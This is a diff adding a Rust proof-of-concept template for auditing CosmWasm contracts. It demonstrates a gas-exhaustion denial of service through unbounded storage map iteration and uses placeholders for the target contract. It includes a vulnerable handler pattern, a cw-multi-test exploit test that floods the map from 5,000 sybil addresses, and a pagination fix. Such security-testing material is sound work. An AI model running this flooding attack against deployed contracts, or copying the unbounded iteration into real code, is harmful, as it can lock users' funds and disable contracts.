@@ -0,0 +1,81 @@
+// ---
+// name: Unbounded Storage Map Iteration
+// description: A handler ranges over a storage map anyone can grow, until it runs out of gas
+// vulnerability_type: unbounded-iteration
+// class: unbounded-resource-consumption
+// chain: cosmwasm
+// severity: medium
+// cwe: [CWE-400]
+// remediation: "Paginate with a bounded limit and a start_after cursor, or let users process their
+//   own entries instead of iterating over all of them."
+// tags: [cw-storage-plus, range, gas, cw-multi-test]
+// context:
+//   CONTRACT_CRATE: Crate of the contract under test
+//   GROW_MSG: ExecuteMsg variant any address can send that adds a map entry
+//   VICTIM_MSG: ExecuteMsg variant that iterates over every entry
+//   ENTRY_AMOUNT: Entries the attacker adds
+// references:
+//   - https://book.cosmwasm.com/actor-model/idea.html
+// ---
+// PoC Template: Unbounded Storage Map Iteration
+// Vulnerability: A handler ranges over a storage map anyone can grow, until it runs out of gas
+// Chain: CosmWasm
+//
+// This template fills the map from many addresses, then calls the
+// iterating handler under a block gas limit.
+
+use cosmwasm_std::{Addr, Empty};
+use cw_multi_test::{App, Contract, ContractWrapper, Executor};
+
+use {{CONTRACT_CRATE}}::contract::{execute, instantiate, query};
+use {{CONTRACT_CRATE}}::msg::{ExecuteMsg, InstantiateMsg};
+
+// ============================================================
+// VULNERABLE HANDLER (example)
+// ============================================================
+// pub fn distribute(deps: DepsMut) -> StdResult<Response> {
+//     // BUG: Visits every staker; the map grows with each new address
+//     let stakers: Vec<_> = STAKERS
+//         .range(deps.storage, None, None, Order::Ascending)
+//         .collect::<StdResult<_>>()?;
+//     ...
+// }
+
+fn contract() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query))
+}
+
+// ============================================================
+// EXPLOIT TEST (cw-multi-test)
+// ============================================================
+#[test]
+fn test_unbounded_iteration_exploit() {
+    let mut app = App::default();
+    let owner = Addr::unchecked("owner");
+
+    let code_id = app.store_code(contract());
+    let contract_addr = app
+        .instantiate_contract(code_id, owner.clone(), &InstantiateMsg { /* fill in */ }, &[], "target", None)
+        .unwrap();
+
+    // 1. Add one entry per address; each costs the attacker one cheap tx
+    for i in 0..{{ENTRY_AMOUNT=5_000}} {
+        let sybil = Addr::unchecked(format!("sybil{i}"));
+        app.execute_contract(sybil, contract_addr.clone(), &ExecuteMsg::{{GROW_MSG}} { /* minimal */ }, &[])
+            .unwrap();
+    }
+
+    // 2. The iterating handler now visits every entry. cw-multi-test does not meter
+    //    gas, so compare the entries visited against the chain's block gas limit
+    //    (or run this against a local chain with the same state).
+    let result = app.execute_contract(owner, contract_addr, &ExecuteMsg::{{VICTIM_MSG}} {}, &[]);
+    println!("{{VICTIM_MSG}} over {{ENTRY_AMOUNT=5_000}} entries: {:?}", result.is_ok());
+}
+
+// ============================================================
+// FIX: Paginate, or let users process their own entries
+// ============================================================
+// const MAX_LIMIT: u32 = 30;
+// let limit = limit.unwrap_or(10).min(MAX_LIMIT) as usize;
+// let start = start_after.map(|a| Bound::exclusive(a));
+// STAKERS.range(deps.storage, start, None, Order::Ascending).take(limit)